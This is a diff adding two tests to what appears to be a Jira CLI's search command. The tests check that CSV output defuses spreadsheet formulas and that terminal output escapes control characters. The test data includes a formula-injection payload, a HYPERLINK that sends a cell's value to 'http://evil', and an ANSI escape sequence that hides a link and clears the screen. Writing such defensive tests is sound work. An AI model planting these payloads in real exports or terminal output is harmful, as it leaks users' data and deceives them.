@@ -104,6 +104,28 @@ describe('atl jira search (Cloud)', () => {
     expect(f.err.text).toMatch(NOTICE);
   });
 
+  test('--csv neutralises cells a spreadsheet would run as formulas; --csv-raw prints them exactly', async () => {
+    const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary: '=HYPERLINK("http://evil/?"&A1)', labels: ['@x'] } }];
+    const f = fakeFactory({ http: cloudSite(issues) });
+    await runCommand(search, f, [], { csv: true, fields: 'summary,labels' });
+    expect(f.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"'=HYPERLINK(""http://evil/?""&A1)",'@x\n`);
+    const raw = fakeFactory({ http: cloudSite(issues) });
+    await runCommand(search, raw, [], { csvRaw: true, fields: 'summary,labels' });
+    expect(raw.out.text).toBe(`KEY,SUMMARY,LABELS\nABC-1,"=HYPERLINK(""http://evil/?""&A1)",@x\n`);
+    expect((await runCommand(search, fakeFactory({ json: true }), [], { csvRaw: true })).code).toBe(2);
+  });
+
+  test('--csv on a terminal shows control characters as escapes; piped CSV keeps the exact bytes', async () => {
+    const summary = '\u001b]8;;http://evil\u0007click\u001b]8;;\u0007\u001b[2J';
+    const issues: JiraIssue[] = [{ id: '1', key: 'ABC-1', fields: { summary } }];
+    const tty = fakeFactory({ http: cloudSite(issues), tty: true });
+    await runCommand(search, tty, [], { csv: true, fields: 'summary' });
+    expect(tty.out.text).toBe('KEY,SUMMARY\nABC-1,\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07\\x1b[2J\n');
+    const piped = fakeFactory({ http: cloudSite(issues) });
+    await runCommand(search, piped, [], { csv: true, fields: 'summary' });
+    expect(piped.out.text).toBe(`KEY,SUMMARY\nABC-1,${summary}\n`);
+  });
+
   test('--count uses approximate-count without the ORDER BY, and says it is approximate (~N; "approximate": true)', async () => {
     const f = fakeFactory({ http: cloudSite(makeIssues(77)) });
     await runCommand(search, f, [], { project: 'ABC', count: true });
